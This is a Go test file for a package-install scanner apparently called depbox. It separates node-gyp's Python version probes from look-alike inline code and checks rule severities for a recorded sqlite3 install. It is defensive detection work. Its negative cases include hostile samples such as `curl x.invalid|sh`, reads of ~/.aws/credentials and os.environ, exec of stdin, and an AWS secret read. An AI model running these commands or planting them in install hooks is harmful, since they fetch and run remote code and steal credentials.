package verdict

import (
	"testing"

	"github.com/depbox/depbox/profile"
)

// TestInterpreterProbe: node-gyp's find-python probes are version probes;
// anything else run with python -c, look-alikes included, stays inline code.
func TestInterpreterProbe(t *testing.T) {
	tests := []struct {
		name string
		argv []string
		want bool
	}{
		{"node-gyp: version", []string{"/usr/bin/python3", "-c", `import sys; print("%s.%s.%s" % sys.version_info[:3]);`}, true},
		{"node-gyp: executable", []string{"python3", "-c", `import sys; sys.stdout.buffer.write(sys.executable.encode('utf-8'));`}, true},
		{"platform, on two lines", []string{"python", "-c", "import platform\nprint(platform.python_version())"}, true},
		{"joined version", []string{"python3.11", "-c", `import sys; print('.'.join(map(str, sys.version_info[:2])))`}, true},
		{"two modules, two facts", []string{"python3", "-c", `import sys, platform; print(sys.prefix, platform.machine())`}, true},

		{"os.system beside sys", []string{"python3", "-c", `import sys,os;os.system("curl x.invalid|sh")`}, false},
		{"exec", []string{"python3", "-c", `import sys; exec(sys.argv[1])`}, false},
		{"exec of a literal", []string{"python3", "-c", `import sys; print(sys.version); exec("import os")`}, false},
		{"__import__ in print", []string{"python3", "-c", `import sys; print(__import__('os').environ)`}, false},
		{"open in print", []string{"python3", "-c", `import sys; print(open('/home/sbx_user/.aws/credentials').read())`}, false},
		{"another module", []string{"python3", "-c", `import os; print(os.environ)`}, false},
		{"from import", []string{"python3", "-c", `from sys import version; print(version)`}, false},
		{"assignment", []string{"python3", "-c", `import sys; sys.path = []; print(sys.version)`}, false},
		{"format reaches attributes", []string{"python3", "-c", `import platform; print("{0.__globals__[os].environ}".format(platform.python_version))`}, false},
		{"attribute of a fact", []string{"python3", "-c", `import sys; print(sys.version_info.__class__.__subclasses__())`}, false},
		{"escape in a string", []string{"python3", "-c", `import sys; print("\x41", sys.version)`}, false},
		{"triple quotes", []string{"python3", "-c", `import sys; print("""x""")`}, false},
		{"unbalanced", []string{"python3", "-c", `import sys; print(sys.version))(`}, false},
		{"a call after print", []string{"python3", "-c", `import sys; print(sys.version)(1)`}, false},
		{"keywords glued to a number", []string{"python3", "-c", `import sys; print(0or sys.version)`}, false},
		{"no fact printed", []string{"python3", "-c", `import sys; print(1)`}, false},
		{"only an import", []string{"python3", "-c", `import sys`}, false},
		{"comment", []string{"python3", "-c", `import sys; print(sys.version) # x`}, false},
		{"not python", []string{"node", "-e", `import sys; print(sys.version)`}, false},
		{"flags before -c", []string{"python3", "-I", "-c", `import sys; print(sys.version)`}, false},
		{"a script", []string{"python3", "setup.py"}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := interpreterProbe(profile.Process{Argv: tt.argv}); got != tt.want {
				t.Errorf("interpreterProbe(%q) = %v, want %v", tt.argv, got, tt.want)
			}
		})
	}
}

// TestSQLite3Install: sqlite3@6.0.1's install phase as the corpus recorded
// it once its environment walk is one enumeration (the hook's envCopyRead):
// prebuild-install's download from github.com fails, node-gyp probes
// python and fetches node's headers. No DBX006 (no secret read), no DBX007
// (version probes), and DBX008 medium (HTTPS to names it resolved). The
// look-alikes keep their high.
func TestSQLite3Install(t *testing.T) {
	proc := func(argv ...string) profile.Process { return profile.Process{Argv: argv, Result: "ok"} }
	base := func() profile.Behavior {
		return profile.Behavior{
			Env: []string{"*", "HOME", "PATH", "npm_config_arch", "npm_config_sqlite3_binary_host"},
			Network: []profile.Endpoint{{Host: "github.com", Port: 443, Protocol: "tcp"},
				{Host: "nodejs.org", Port: 443, Protocol: "tcp"}},
			DNS: []profile.DNSQuery{{Name: "github.com"}, {Name: "nodejs.org"}},
			Processes: []profile.Process{
				proc("/bin/sh", "-c", "prebuild-install -r napi || node-gyp rebuild"),
				proc("node", "/var/task/node_modules/.bin/prebuild-install", "-r", "napi"),
				proc("node", "/var/task/node_modules/.bin/node-gyp", "rebuild"),
				proc("/usr/bin/python3", "-c", `import sys; print("%s.%s.%s" % sys.version_info[:3]);`),
				proc("python3", "-c", `import sys; sys.stdout.buffer.write(sys.executable.encode('utf-8'));`),
			},
		}
	}
	tests := []struct {
		name   string
		change func(b *profile.Behavior)
		want   map[string]Severity // rule → severity; 0: must not fire
	}{
		{"as recorded", func(*profile.Behavior) {},
			map[string]Severity{RuleSecretEnvNetwork: 0, RuleShellDownloader: 0, RuleInstallNetwork: Medium}},
		{"an environment copy, then a targeted secret read", func(b *profile.Behavior) { b.Env = append(b.Env, "AWS_SECRET_ACCESS_KEY") },
			map[string]Severity{RuleSecretEnvNetwork: High, RuleShellDownloader: 0, RuleInstallNetwork: High}},
		{"a probe that also runs a command", func(b *profile.Behavior) {
			b.Processes = append(b.Processes, proc("python3", "-c", `import sys,os;os.system("id")`))
		}, map[string]Severity{RuleSecretEnvNetwork: 0, RuleShellDownloader: High, RuleInstallNetwork: High}},
		{"a probe that execs", func(b *profile.Behavior) {
			b.Processes = append(b.Processes, proc("python3", "-c", `import sys; exec(sys.stdin.read())`))
		}, map[string]Severity{RuleShellDownloader: High, RuleInstallNetwork: High}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := base()
			tt.change(&b)
			res := Evaluate(Input{Profile: prof(dep("sqlite3", phases{profile.PhaseInstall: &b}))}, Options{})
			for rule, want := range tt.want {
				var got Severity
				for _, f := range res.Findings {
					if f.Rule == rule {
						got = max(got, f.Severity)
					}
				}
				if got != want {
					t.Errorf("%s severity = %v, want %v\nfindings: %+v", rule, got, want, res.Findings)
				}
			}
		})
	}
}
